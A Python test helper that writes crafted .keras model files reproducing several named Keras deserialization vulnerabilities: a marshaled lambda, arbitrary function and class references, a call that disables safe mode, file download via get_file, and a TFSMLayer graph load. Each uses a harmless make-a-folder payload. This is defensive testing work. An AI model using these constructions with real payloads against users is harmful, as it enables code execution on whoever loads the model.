"""Model files as a stranger may craft them; what they would do is make one empty folder."""

from __future__ import annotations

import base64
import json
import marshal
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import keras


def crafted(good: Path, folder: Path, flag: Path) -> Iterator[Path]:
    """Write files from a good one, with layers that would make the folder `flag`, or disarm Keras.

    One at a time: the next is written when it is asked for.
    """
    code = (lambda x, flag=str(flag): (__import__("os").mkdir(flag), x)[1]).__code__
    python_lambda = {
        "class_name": "__lambda__",
        "config": {
            "code": base64.b64encode(marshal.dumps(code)).decode(),
            "defaults": [str(flag)],
            "closure": None,
        },
    }
    layers = {
        "python-lambda": (_lambda(python_lambda), [{"args": [_input()], "kwargs": {}}]),
        # CVE-2025-1550: any function of any module
        "function": (_lambda(_function("os", "mkdir")), _called_with(str(flag))),
        "class": (
            {
                "module": "pathlib",
                "class_name": "Path",
                "registered_name": "Path",
                "config": {},
                "name": "evil",
            },
            _called_with(str(flag)),
        ),
        # CVE-2025-9906: Keras' own functions, one of which turns the safe mode off
        "disarm": (
            _lambda(_function("keras.config", "enable_unsafe_deserialization")),
            [{"args": [], "kwargs": {}}],
        ),
        # CVE-2025-8747: Keras' own functions that write files
        "download": (
            _lambda(
                _function("keras.utils", "get_file"),
                {"origin": good.as_uri(), "cache_dir": str(flag)},
            ),
            _called_with("fetched"),
        ),
        # CVE-2026-1462: TensorFlow's graphs, which read and write files
        "saved-model": (
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "registered_name": None,
                "config": {"name": "evil", "filepath": str(folder), "call_endpoint": "serve"},
                "name": "evil",
            },
            [{"args": [_input()], "kwargs": {}}],
        ),
    }
    for name, (layer, nodes) in layers.items():
        path = folder / f"{name}.keras"
        with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
            for member in source.namelist():
                data = source.read(member)
                if member == "config.json":
                    data = json.dumps(_model({**layer, "inbound_nodes": nodes})).encode()
                target.writestr(member, data)
        yield path


def _model(layer: dict[str, Any]) -> dict[str, Any]:
    inputs = keras.Input((4,), name="in")
    config = json.loads(keras.Model(inputs, keras.layers.Identity(name="out")(inputs)).to_json())
    config["config"]["layers"].append(layer)
    return dict(config)


def _lambda(function: dict[str, Any], arguments: dict[str, Any] | None = None) -> dict[str, Any]:
    config = {"name": "evil", "function": function, "arguments": arguments or {}}
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": config,
        "build_config": {"input_shape": [None, 4]},
        "name": "evil",
    }


def _function(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def _called_with(value: str) -> list[dict[str, Any]]:
    return [{"args": [], "kwargs": {"inputs": value}}]


def _input() -> dict[str, Any]:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 4], "dtype": "float32", "keras_history": ["in", 0, 0]},
    }
